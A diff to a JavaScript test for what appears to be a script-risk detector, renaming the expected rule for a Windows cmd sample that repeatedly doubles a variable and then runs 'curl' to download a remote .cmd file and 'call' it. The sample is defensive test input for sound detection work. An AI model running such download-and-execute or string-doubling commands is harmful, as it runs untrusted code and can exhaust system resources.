@@ -51,6 +51,6 @@ describe("text that a script doubles", () => {
       ...Array.from({ length: 80 }, () => "set A=%A%%A%"),
       "curl -o a.cmd https://example.com/a.cmd && call a.cmd",
     ];
-    assert.ok(rulesIn("cmd", lines).includes("unpinned-remote-script"));
+    assert.ok(rulesIn("cmd", lines).includes("unverified-download"));
   });
 });
